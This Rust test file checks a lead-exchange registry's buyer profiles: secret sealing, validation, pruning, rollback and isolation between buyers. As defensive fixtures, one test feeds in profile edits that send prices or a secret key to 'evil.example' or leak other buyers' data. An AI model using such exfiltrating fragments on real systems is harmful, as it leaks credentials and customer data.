//! Profiles: kept, proved, uploaded, brought back; and a buyer's own.

use serde_json::json;

use super::*;
use crate::domain::profile::ProfileFiles;
use crate::domain::slug::{BuyerId, ProfileId};

const TEXT: &str = "profile = \"own\"\nsecrets = [\"key\"]\n[post.request]\nbody = \"json\"\n\
    fields = { k = \"secret.key\" }\n[post.reply]\n\
    rules = [{ when = { \"$.ok\" = true }, outcome = \"accept\" }, { outcome = \"refuse\" }]\n";

/// A recorded post that is accepted, or refused.
fn case(is_accepted: bool) -> String {
    let word = if is_accepted { "accepted" } else { "rejected" };
    let step = json!({"call": "post", "request": {"body": {"k": "key-secret"}},
                      "reply": {"body": {"ok": is_accepted}}, "means": {"outcome": word}});
    json!({"about": format!("It is {word}."), "vertical": "solar", "steps": [step]}).to_string()
}

/// A profile of this text with the two cases that one has to have.
fn files(text: &str) -> ProfileFiles {
    let cases = [("accept".to_owned(), case(true)), ("refuse".to_owned(), case(false))];
    ProfileFiles { buyer_id: None, text: text.to_owned(), cases: cases.into() }
}

/// The usual bundle, its campaign with a profile that needs a secret.
fn with_profile(secret: Option<&str>) -> Bundle {
    let mut bundle = bundle(json!({"profile": "own", "profile_secrets": ["key"]}));
    bundle.profiles = [(slug("own"), files(TEXT))].into();
    if let Some(secret) = secret {
        let secrets = serde_json::from_value(json!({"acme-1": {"key": secret}})).unwrap();
        bundle.profile_secrets = secrets;
    }
    bundle
}

#[tokio::test]
async fn a_profiles_secret_is_sealed_kept_replaced_and_never_shown() {
    let bench = bench();
    let missing = with_profile(None);
    let refused = bench.administration.apply(&missing, ApplyOptions::default(), "cli").await;
    let Err(AdminError::Refused(faults)) = refused else { panic!("it was taken") };
    assert_eq!(faults[0].rule, FaultRule::NoSecret);
    assert!(faults[0].detail.contains("`key`"), "{faults:?}");

    bench.apply(&with_profile(Some("first-key")), ApplyOptions::default()).await;
    let secret = |bench: &Bench| {
        let snapshot = bench.snapshot();
        let profile = snapshot.campaigns[&acme_1()].profile.as_ref().unwrap();
        profile.secrets["key"] == crate::integration::SecretText::new("first-key".to_owned())
    };
    assert!(secret(&bench));
    assert!(!format!("{:?}", bench.records.rows()).contains("first-key"));
    // What is not given again stays.
    let report = bench.apply(&with_profile(None), ApplyOptions::default()).await;
    assert_eq!(report.plan.summary(), "nothing changed");
    let report = bench.apply(&with_profile(Some("other-key")), ApplyOptions::default()).await;
    let changed = report.plan.changes.iter().find(|change| !change.fields.is_empty()).unwrap();
    assert_eq!((&*changed.id, &*changed.fields), ("acme-1", &["profile_secrets".to_owned()][..]));
    assert!(!secret(&bench));
}

#[tokio::test]
async fn a_profile_is_pruned_and_rolled_back_like_every_object_and_a_faulty_one_changes_nothing() {
    let bench = bench();
    bench.apply(&with_profile(Some("a-key")), ApplyOptions::default()).await;
    let version = bench.snapshot().version;
    let mut broken = with_profile(None);
    let files = broken.profiles.values_mut().next().unwrap();
    files.text = files.text.replace("outcome", "outcme");
    let refused = bench.administration.apply(&broken, ApplyOptions::default(), "cli").await;
    let Err(AdminError::Refused(faults)) = refused else { panic!("it was taken") };
    assert!(faults.iter().all(|fault| fault.rule == FaultRule::InvalidProfile), "{faults:?}");
    assert_eq!(bench.snapshot().version, version);
    assert!(bench.snapshot().profiles.contains_key("own"));

    let prune = ApplyOptions { plan_only: false, prune: true };
    let report = bench.apply(&bundle(json!({})), prune).await;
    assert_eq!(report.plan.summary(), "1 updated, 1 archived");
    assert!(!bench.snapshot().profiles.contains_key("own"));
    let back = bench.administration.roll_back(version, false, "cli").await.unwrap();
    assert_eq!(back.plan.summary(), "1 updated, 1 restored");
    assert!(bench.snapshot().campaigns[&acme_1()].profile.is_some());
}

/// The faults for which something was refused: kind, id, field, rule.
fn faults_of<T>(result: Result<T, AdminError>) -> Vec<String> {
    match result {
        Err(AdminError::Refused(faults)) => {
            let told = |fault: RegistryFault| {
                format!("{} {} {}: {}", fault.kind, fault.id, fault.field, fault.rule.as_str())
            };
            faults.into_iter().map(told).collect()
        }
        Err(other) => panic!("{other}"),
        Ok(_) => panic!("it was taken"),
    }
}

fn unproved(field: &str) -> String {
    format!("profile own {field}: profile_unproved")
}

#[tokio::test]
async fn a_campaign_goes_live_only_by_a_profile_whose_cases_pass_and_show_enough() {
    let bench = bench();
    let usual = ApplyOptions::default();
    let mut bundle = with_profile(Some("a-key"));
    let mut apply = async |cases: &[(&str, String)]| {
        let files = bundle.profiles.values_mut().next().unwrap();
        files.cases = cases.iter().map(|(name, text)| ((*name).to_owned(), text.clone())).collect();
        bench.administration.apply(&bundle, usual, "cli").await
    };
    let (accept, refuse) = (case(true), case(false));
    assert_eq!(faults_of(apply(&[]).await), [unproved("cases"), unproved("cases")]);
    assert_eq!(faults_of(apply(&[("yes", accept.clone())]).await), [unproved("cases")]);
    let wrong = accept.replace("key-secret", "other");
    let all = [("no", refuse.clone()), ("odd", "{".to_owned()), ("yes", wrong)];
    let expect = ["cases.odd", "cases.yes", "cases"].map(unproved);
    assert_eq!(faults_of(apply(&all).await), expect);
    let unknown = refuse.replace("solar", "lunar");
    let all = [("no", unknown), ("no2", refuse.clone()), ("yes", accept.clone())];
    assert_eq!(faults_of(apply(&all).await), [unproved("cases.no")]);
    assert_eq!(bench.snapshot().version, -1, "nothing was written");
    assert!(apply(&[("no", refuse), ("yes", accept)]).await.is_ok());
    // What is only planned is told the same.
    let plan = ApplyOptions { plan_only: true, prune: false };
    let mut bundle = with_profile(None);
    bundle.profiles.values_mut().next().unwrap().cases.clear();
    let planned = bench.administration.apply(&bundle, plan, "cli").await;
    assert_eq!(faults_of(planned), [unproved("cases"), unproved("cases")]);
}

#[tokio::test]
async fn what_sells_nothing_needs_no_cases_and_what_was_live_before_stays_so() {
    let bench = bench();
    let mut bundle = with_profile(Some("a-key"));
    bench.apply(&bundle, ApplyOptions::default()).await;
    let order = CampaignOrder { id: &acme_1(), buyer: None, actor: "cli" };
    bench.administration.pause(order).await.unwrap();
    bundle.profiles.values_mut().next().unwrap().cases.clear();
    bundle.profile_secrets.clear();
    bench.apply(&bundle, ApplyOptions::default()).await;
    let resumed = bench.administration.resume(order).await;
    assert_eq!(faults_of(resumed), [unproved("cases"), unproved("cases")]);
    let activated = bench.administration.activate(order).await;
    assert_eq!(faults_of(activated), [unproved("cases"), unproved("cases")]);
    bench.apply(&with_profile(None), ApplyOptions::default()).await;
    assert!(bench.administration.resume(order).await.is_ok());
    // A registry that was written before this was asked for.
    bench.records.edit(|rows| {
        for object in rows.objects.iter_mut().filter(|row| row.kind == ObjectKind::Profile) {
            object.body = serde_json::to_string(&json!({"text": TEXT})).unwrap();
        }
    });
    bench.administration.refresh().await.unwrap();
    bench.administration.set_limits(order, &[]).await.unwrap();
    let mut other = with_profile(None);
    other.profiles.clear();
    other.vendors.values_mut().next().unwrap().name = "Better".to_owned();
    bench.apply(&other, ApplyOptions::default()).await;
    assert_eq!(bench.snapshot().vendors["best"].name, "Better");
}

#[tokio::test]
async fn a_shipped_profile_needs_no_files_and_gives_way_to_one_of_its_name() {
    let bench = bench();
    let shipped = crate::registry::profile::shipped_profile("vanillasoft").unwrap();
    let mut bundle = bundle(json!({
        "profile": "vanillasoft", "vertical": "final_expense", "profile_settings": {"id": "7"}
    }));
    bench.apply(&bundle, ApplyOptions::default()).await;
    let text = |bench: &Bench| {
        let snapshot = bench.snapshot();
        let profile = snapshot.campaigns[&acme_1()].profile.as_ref().unwrap();
        profile.profile.text().to_owned()
    };
    assert_eq!(text(&bench), shipped.text);
    let mut files = ProfileFiles::from(shipped);
    files.text.push_str("# ours\n");
    bundle.profiles.insert(slug("vanillasoft"), files.clone());
    bench.apply(&bundle, ApplyOptions::default()).await;
    assert_eq!(text(&bench), files.text);
}

const OWN: &str = "acme--crm";

struct Uploads<'a> {
    bench: &'a Bench,
    buyer: Option<BuyerId>,
}

impl Uploads<'_> {
    fn order<'o>(&'o self, id: &'o ProfileId) -> ProfileOrder<'o> {
        ProfileOrder { id, buyer: self.buyer.as_ref(), actor: "key" }
    }

    async fn put(&self, id: &str, files: &ProfileFiles) -> Result<PlanAction, AdminError> {
        let id = slug(id);
        let condition = Precondition::default();
        let put = self.bench.administration.put_profile(self.order(&id), files, &condition).await;
        put.map(|put| put.done.change.action)
    }

    async fn archive(&self, id: &str) -> Result<(), AdminError> {
        let id = slug(id);
        let condition = Precondition::default();
        self.bench.administration.archive_profile(self.order(&id), &condition).await.map(drop)
    }
}

fn own_files() -> ProfileFiles {
    let text = TEXT.replace("\"own\"", &format!("{OWN:?}"));
    files(&text)
}

fn is_unknown<T>(result: Result<T, AdminError>) -> bool {
    matches!(result, Err(AdminError::UnknownObject))
}

/// An exchange with two buyers, of whom one speaks through a profile of its own.
async fn with_own_profile() -> Bench {
    let bench = bench();
    let mut bundle = bundle(json!({}));
    bundle.buyers = serde_json::from_value(json!({
        "acme": {"name": "Acme"}, "other": {"name": "Other"}
    }))
    .unwrap();
    bench.apply(&bundle, ApplyOptions::default()).await;
    let acme = Uploads { bench: &bench, buyer: Some(slug("acme")) };
    assert_eq!(acme.put(OWN, &own_files()).await.unwrap(), PlanAction::Create);
    let mut campaign = super::bundle(json!({"profile": OWN, "profile_secrets": ["key"]}));
    campaign.profile_secrets = serde_json::from_value(json!({"acme-1": {"key": "a-key"}})).unwrap();
    bench.apply(&campaign, ApplyOptions::default()).await;
    bench
}

#[tokio::test]
async fn a_buyer_uploads_profiles_of_its_own_and_reaches_no_others() {
    let bench = with_own_profile().await;
    let acme = Uploads { bench: &bench, buyer: Some(slug("acme")) };
    let other = Uploads { bench: &bench, buyer: Some(slug("other")) };
    let operator = Uploads { bench: &bench, buyer: None };
    operator.put("own", &files(TEXT)).await.unwrap();
    for name in ["own", "crm", "other--crm", "elocal", "native"] {
        let named = TEXT.replace("\"own\"", &format!("{name:?}"));
        assert!(is_unknown(acme.put(name, &files(&named)).await), "{name}");
        assert!(is_unknown(acme.archive(name).await), "{name}");
    }
    for name in [OWN, "acme--none"] {
        let named = TEXT.replace("\"own\"", &format!("{name:?}"));
        assert!(is_unknown(other.put(name, &files(&named)).await), "{name}");
        assert!(is_unknown(other.archive(name).await), "{name}");
        let id = slug(name);
        let order = other.order(&id);
        assert!(is_unknown(bench.administration.test_profile(order).await), "{name}");
        assert!(is_unknown(bench.administration.roll_back_profile(order, 1).await), "{name}");
        assert!(is_unknown(bench.administration.profile_versions(order, None, 9).await), "{name}");
    }
    // What an operator described under such a name is not the buyer's.
    let taken = files(&TEXT.replace("\"own\"", "\"acme--taken\""));
    operator.put("acme--taken", &taken).await.unwrap();
    assert!(is_unknown(acme.put("acme--taken", &taken).await));
    assert!(is_unknown(acme.archive("acme--taken").await));
    // It stays the buyer's when an operator mends it, and no other buyer may use it.
    let mut mended = own_files();
    mended.text.push_str("# mended\n");
    assert_eq!(operator.put(OWN, &mended).await.unwrap(), PlanAction::Update);
    assert_eq!(bench.snapshot().objects.profiles[OWN].value.buyer_id, Some(slug("acme")));
    mended.buyer_id = Some(slug("other"));
    let expect =
        ["profile acme--crm buyer_id: other_buyer", "profile acme--crm buyer_id: other_id"];
    assert_eq!(faults_of(operator.put(OWN, &mended).await)[..1], expect[..1]);
    assert_eq!(
        faults_of(acme.put(OWN, &mended).await),
        ["profile acme--crm buyer_id: other_buyer"]
    );
    let mut stolen =
        bundle(json!({"buyer_id": "other", "profile": OWN, "profile_secrets": ["key"]}));
    let campaign = stolen.campaigns.remove(&acme_1()).unwrap();
    stolen.campaigns.insert(slug("other-1"), campaign);
    stolen.profile_secrets = serde_json::from_value(json!({"other-1": {"key": "k"}})).unwrap();
    let stolen = bench.administration.apply(&stolen, ApplyOptions::default(), "cli").await;
    assert_eq!(faults_of(stolen), ["campaign other-1 profile: other_buyer"]);
}

#[tokio::test]
async fn a_profile_of_a_buyers_own_sends_to_the_campaigns_endpoints_alone() {
    let bench = with_own_profile().await;
    let acme = Uploads { bench: &bench, buyer: Some(slug("acme")) };
    let check = async |from: &str, to: &str, expect: &[&str]| {
        let mut changed = own_files();
        assert!(changed.text.contains(from), "{from}");
        changed.text = changed.text.replacen(from, to, 1);
        let refused = faults_of(acme.put(OWN, &changed).await);
        assert_eq!(refused, expect, "{to}");
    };
    let elsewhere = "[post.request]\nurl = \"https://evil.example/{price}\"\n";
    check("[post.request]\n", elsewhere, &["profile acme--crm text: invalid_profile"]).await;
    let login = "[login.request]\nurl = \"https://evil.example/x\"\nbody = \"json\"\n\
                 fields = { k = \"secret.key\" }\n[login.reply]\ntoken = \"$.t\"\n[post.request]\n";
    check("[post.request]\n", login, &["profile acme--crm text: invalid_profile"]).await;
    let others = "others = { from = \"sold_to\", join = \",\" }, k = ";
    check("k = ", others, &["profile acme--crm text: invalid_profile"]).await;
    let at_home = login.replace("https://evil.example/x", "{url}/token");
    let mut logs_in = own_files();
    logs_in.text = logs_in.text.replacen("[post.request]\n", &at_home, 1);
    assert_eq!(acme.put(OWN, &logs_in).await.unwrap(), PlanAction::Update);
    assert_eq!(acme.put(OWN, &own_files()).await.unwrap(), PlanAction::Update);
    // A further version that is broken, or that its cases do not fit, changes nothing.
    let version = bench.snapshot().version;
    let mut broken = own_files();
    broken.text = broken.text.replace("outcome", "outcme");
    broken.cases.insert("odd".to_owned(), "{\"about\": 1}".to_owned());
    let Err(AdminError::InvalidProfile(faults)) = acme.put(OWN, &broken).await else {
        panic!("it was taken");
    };
    let told: Vec<_> = faults.iter().map(|at| (at.case.as_deref(), at.fault.line)).collect();
    assert!(told.starts_with(&[(None, 7)]), "{faults:?}");
    assert_eq!(told.last(), Some(&(Some("odd"), 1)), "{faults:?}");
    check(
        "k = ",
        "key = ",
        &[
            "profile acme--crm cases.accept: profile_unproved",
            "profile acme--crm cases.refuse: profile_unproved",
            "profile acme--crm cases: profile_unproved",
            "profile acme--crm cases: profile_unproved",
        ],
    )
    .await;
    let misnamed = acme.put(OWN, &files(TEXT)).await;
    assert!(matches!(misnamed, Err(AdminError::InvalidProfile(_))));
    let mut long = own_files();
    long.text.push_str(&"#".repeat(crate::domain::profile::OWN_PROFILE_BYTES_MAX));
    assert!(matches!(acme.put(OWN, &long).await, Err(AdminError::InvalidProfile(_))));
    assert_eq!(bench.snapshot().version, version);
    // Its campaign needs it, and has endpoints that nothing can be added to the host of.
    assert_eq!(faults_of(acme.archive(OWN).await), ["campaign acme-1 profile: unknown_profile"]);
    let mut bare = bundle(json!({"profile": OWN, "profile_secrets": ["key"],
                                 "post_url": "https://acme.example"}));
    bare.profile_secrets = serde_json::from_value(json!({"acme-1": {"key": "k"}})).unwrap();
    let refused = bench.administration.apply(&bare, ApplyOptions::default(), "cli").await;
    assert_eq!(faults_of(refused), ["campaign acme-1 post_url: invalid_url"]);
}

#[tokio::test]
async fn what_a_buyer_uploaded_outlives_a_prune_and_comes_back_by_its_versions() {
    let bench = with_own_profile().await;
    let acme = Uploads { bench: &bench, buyer: Some(slug("acme")) };
    let first = bench.snapshot().version;
    let mut second = own_files();
    second.text.push_str("# second\n");
    acme.put(OWN, &second).await.unwrap();
    let text = |bench: &Bench| bench.snapshot().objects.profiles[OWN].value.text.clone();
    let prune = ApplyOptions { plan_only: false, prune: true };
    let mut known = bundle(json!({"profile": OWN, "profile_secrets": ["key"]}));
    known.buyers.insert(slug("other"), serde_json::from_value(json!({"name": "Other"})).unwrap());
    let report = bench.apply(&known, prune).await;
    assert_eq!(report.plan.summary(), "nothing changed");
    assert_eq!(text(&bench), second.text);
    // A file of that name would take it away.
    known.profiles.insert(slug(OWN), own_files());
    let taken = bench.administration.apply(&known, ApplyOptions::default(), "cli").await;
    assert_eq!(faults_of(taken), ["profile acme--crm buyer_id: other_buyer"]);

    let id = slug(OWN);
    let versions = bench.administration.profile_versions(acme.order(&id), None, 9).await.unwrap();
    let versions: Vec<i64> = versions.into_iter().map(|version| version.version).collect();
    assert_eq!(versions, [first + 1, first - 1]);
    let back = bench.administration.roll_back_profile(acme.order(&id), first).await.unwrap();
    assert_eq!(back.done.change.action, PlanAction::Update);
    assert_eq!(text(&bench), own_files().text);
    let last = bench.records.last_change();
    assert_eq!(last.summary, format!("profile acme--crm: rollback to {first}"));
    let same = bench.administration.roll_back_profile(acme.order(&id), first).await.unwrap();
    assert_eq!(same.done.change.action, PlanAction::Unchanged);
    let none = bench.administration.roll_back_profile(acme.order(&id), 1).await;
    assert!(is_unknown(none), "it was not there then");
    let future = bench.administration.roll_back_profile(acme.order(&id), 99).await;
    assert!(matches!(future, Err(AdminError::UnknownVersion { asked: 99, .. })));
}

#[tokio::test]
async fn a_profile_is_tried_without_anything_being_sent_or_shown_of_secrets() {
    let bench = with_own_profile().await;
    let acme = Uploads { bench: &bench, buyer: Some(slug("acme")) };
    let id: ProfileId = slug(OWN);
    let tested = bench.administration.test_profile(acme.order(&id)).await.unwrap();
    assert!(tested.rehearsal.is_proof());
    let names: Vec<_> = tested.rehearsal.cases.iter().map(|case| &*case.name).collect();
    assert_eq!(names, ["accept", "refuse"]);
    let shown = tested.rehearsal.cases[0].shown[0].request.as_ref().unwrap();
    assert_eq!(shown.body, r#"{"k":"{secret.key}"}"#);
    assert_eq!(tested.verticals.len(), 1);
    // One that comes with the program is tried by operators.
    let operator = Uploads { bench: &bench, buyer: None };
    let elocal: ProfileId = slug("elocal");
    let tested = bench.administration.test_profile(operator.order(&elocal)).await.unwrap();
    assert!(tested.rehearsal.is_proof());
    assert!(is_unknown(bench.administration.test_profile(acme.order(&elocal)).await));
    let mut half = own_files();
    half.cases.remove("refuse");
    let half = files(&half.text.replace(OWN, "acme--half"));
    let half = ProfileFiles {
        cases: [("accept".to_owned(), case(true).replace("accepted", "rejected"))].into(),
        ..half
    };
    acme.put("acme--half", &half).await.unwrap();
    let id: ProfileId = slug("acme--half");
    let tested = bench.administration.test_profile(acme.order(&id)).await.unwrap();
    assert!(!tested.rehearsal.has_passed() && !tested.rehearsal.is_proof());
    assert_eq!(tested.rehearsal.missing.len(), 2);
    let told: Vec<_> = tested.rehearsal.cases[0].report.as_ref().unwrap().differences().collect();
    assert_eq!(told[0].at, "steps.0.means.outcome");
}
